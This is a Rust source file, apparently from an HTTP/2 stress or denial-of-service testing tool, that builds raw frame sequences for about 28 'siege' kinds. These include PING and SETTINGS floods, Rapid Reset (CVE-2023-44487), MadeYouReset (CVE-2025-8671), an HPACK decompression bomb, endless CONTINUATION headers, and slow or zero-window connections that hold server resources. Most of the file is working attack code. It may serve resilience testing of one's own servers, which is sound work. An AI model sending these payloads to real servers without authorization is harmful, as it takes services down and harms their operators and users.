//! What each kind of siege sends.

use clap::ValueEnum;

use crate::bytes::{
    ACK, CONTINUATION, DATA, END_HEADERS, HEADERS, Out, PING, PRIORITY, RST_STREAM, SETTINGS,
    STREAM, UNARY, WINDOW_UPDATE, malformed,
};

/// A kind of siege.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub enum Kind {
    /// PING without end.
    Pings,
    /// Answers to PINGs that nobody sent.
    PingAcks,
    /// SETTINGS without end.
    Settings,
    /// Window updates of one byte.
    WindowUpdates,
    /// PRIORITY without end.
    Priorities,
    /// Frames of a kind that there is not.
    UnknownFrames,
    /// Empty DATA.
    EmptyData,
    /// A message that comes in DATA of one byte.
    TinyData,
    /// One stream reset again and again.
    Resets,
    /// Streams that are opened and reset (CVE-2023-44487).
    RapidReset,
    /// Streams that make the server reset them (CVE-2025-8671).
    MadeYouReset,
    /// 20,000 streams and more at a time.
    Streams,
    /// Headers that go on without end, in empty frames.
    Continuations,
    /// Headers that go on and grow.
    GrowingHeaders,
    /// Headers of 15 kB that unfold to 60 MB.
    HpackBomb,
    /// Headers twice on each stream.
    Trailers,
    /// Messages that announce 200 MB.
    Oversized,
    /// Messages of 30 MB as some kilobytes of gzip.
    GzipBomb,
    /// The same as zstd.
    ZstdBomb,
    /// A connection without a byte.
    Silent,
    /// A preface that stops half way.
    HalfPreface,
    /// Headers that never end.
    SlowHeaders,
    /// 200 streams with 60 kB each of a message of 1 MB.
    HalfMessages,
    /// 200 streams that announce 1 MB and send nothing.
    Announced,
    /// 200 calls for the largest answers, no window.
    ZeroWindow,
    /// The same with a window of one byte.
    OneByteWindow,
    /// The same with all the window there is, and not a byte read.
    NonReader,
    /// 200 streams with nothing on them.
    IdleStreams,
}

/// What is sent over one connection.
pub struct Script {
    /// The preface, unless it is the point that there is none.
    pub hello: Vec<u8>,
    /// What follows once the server has said how much it takes.
    pub opening: Vec<u8>,
    pub then: Then,
    /// Whether what the server says is read.
    pub reads: bool,
}

/// What follows the opening.
pub enum Then {
    /// Nothing: the connection is held.
    Hold,
    /// This, again and again.
    Again(Vec<u8>),
    /// This for each stream, by its number, again and again.
    Streams(fn(&mut Out, u32)),
}

/// The streams that a server allows on one connection.
const STREAMS: u32 = 200;

impl Kind {
    /// None for those that need a real client.
    pub fn script(self) -> Option<Script> {
        let (opening, then) = match self {
            Self::Pings => again(|out| out.frame(PING, 0, 0, &[0; 8])),
            Self::PingAcks => again(|out| out.frame(PING, ACK, 0, &[0; 8])),
            Self::Settings => again(|out| out.frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff])),
            Self::WindowUpdates => again(|out| out.frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])),
            Self::Priorities => again(|out| out.frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 1])),
            Self::UnknownFrames => again(|out| out.frame(0xfa, 0, 0, &[])),
            Self::EmptyData => on_a_stream(&[], |out| out.frame(DATA, 0, 1, &[])),
            Self::TinyData => on_a_stream(&[0, 0, 0x0f, 0, 0], |out| out.frame(DATA, 0, 1, &[0])),
            Self::Resets => on_a_stream(&[], |out| out.frame(RST_STREAM, 0, 1, &[0, 0, 0, 8])),
            Self::Continuations => in_headers(&[]),
            Self::GrowingHeaders => in_headers(&[&[0, 1, b'a', 97][..], &[b'x'; 97]].concat()),
            Self::RapidReset => streams(|out, stream| {
                out.call(stream, UNARY);
                out.frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]);
            }),
            Self::MadeYouReset => streams(|out, stream| {
                out.call(stream, UNARY);
                // Two of these overflow the window.
                out.frame(WINDOW_UPDATE, 0, stream, &[0x7f, 0xff, 0xff, 0xff]);
            }),
            Self::Streams => streams(|out, stream| out.call(stream, STREAM)),
            Self::HpackBomb => streams(|out, stream| {
                let field = [&[0x40, 1, b'a', 0x7f, 0xa1, 0x1e][..], &[b'x'; 4000]].concat();
                out.frame(HEADERS, 0, stream, &field);
                out.frame(CONTINUATION, END_HEADERS, stream, &[0xbe; 15_000]);
            }),
            Self::Trailers => streams(|out, stream| {
                out.call(stream, STREAM);
                out.call(stream, STREAM);
            }),
            Self::Oversized => streams(|out, stream| {
                out.call(stream, UNARY);
                out.frame(DATA, 0, stream, &[0, 0x0c, 0, 0, 0]);
            }),
            Self::Silent => (Vec::new(), Then::Hold),
            Self::HalfPreface => (b"PRI * HTTP/2.0".to_vec(), Then::Hold),
            Self::SlowHeaders => hold(|out| out.frame(HEADERS, 0, 1, &[0x83])),
            Self::HalfMessages => hold_streams(|out, stream| {
                out.call(stream, UNARY);
                out.frame(DATA, 0, stream, &[0, 0, 0x10, 0, 0]);
                for _ in 0..4 {
                    out.frame(DATA, 0, stream, &[0; 15_000]);
                }
            }),
            Self::Announced => hold_streams(|out, stream| {
                out.call(stream, UNARY);
                out.frame(DATA, 0, stream, &[0, 0, 0x10, 0, 0]);
            }),
            Self::ZeroWindow => large_answers([0, 0, 0, 0]),
            Self::OneByteWindow => large_answers([0, 0, 0, 1]),
            Self::NonReader => large_answers([0x7f, 0xff, 0xff, 0xff]),
            Self::IdleStreams => hold_streams(|out, stream| out.call(stream, STREAM)),
            Self::GzipBomb | Self::ZstdBomb => return None,
        };
        let reads = self != Self::NonReader;
        let hello = match self {
            Self::Silent | Self::HalfPreface => Vec::new(),
            _ => Out::hello().0,
        };
        Some(Script {
            hello,
            opening,
            then,
            reads,
        })
    }
}

fn again(frame: impl Fn(&mut Out)) -> (Vec<u8>, Then) {
    (Vec::new(), Then::Again(many(frame)))
}

/// After the headers of a call, and these bytes of it.
fn on_a_stream(bytes: &[u8], frame: impl Fn(&mut Out)) -> (Vec<u8>, Then) {
    let mut out = Out::default();
    out.call(1, STREAM);
    if !bytes.is_empty() {
        out.frame(DATA, 0, 1, bytes);
    }
    (out.0, Then::Again(many(frame)))
}

/// After headers that have not ended.
fn in_headers(piece: &[u8]) -> (Vec<u8>, Then) {
    let mut out = Out::default();
    out.frame(HEADERS, 0, 1, &[0x83]);
    let pieces = many(|out| out.frame(CONTINUATION, 0, 1, piece));
    (out.0, Then::Again(pieces))
}

fn streams(each: fn(&mut Out, u32)) -> (Vec<u8>, Then) {
    (Vec::new(), Then::Streams(each))
}

fn hold(rest: impl Fn(&mut Out)) -> (Vec<u8>, Then) {
    let mut out = Out::default();
    rest(&mut out);
    (out.0, Then::Hold)
}

fn hold_streams(each: impl Fn(&mut Out, u32)) -> (Vec<u8>, Then) {
    hold(|out| (0..STREAMS).for_each(|n| each(out, 2 * n + 1)))
}

/// As many calls for the largest answers as there may be, with that window for each.
fn large_answers(window: [u8; 4]) -> (Vec<u8>, Then) {
    let message = malformed();
    let [a, b, c, d] = window;
    hold(|out| {
        out.frame(SETTINGS, 0, 0, &[0, 4, a, b, c, d]);
        out.frame(WINDOW_UPDATE, 0, 0, &[0x7f, 0xff, 0, 0]);
        for n in 0..STREAMS {
            out.call(2 * n + 1, UNARY);
            out.message(2 * n + 1, &message, true);
        }
    })
}

/// About 64 kB of them.
fn many(frame: impl Fn(&mut Out)) -> Vec<u8> {
    let mut out = Out::default();
    while out.0.len() < 65_536 {
        frame(&mut out);
    }
    out.0
}
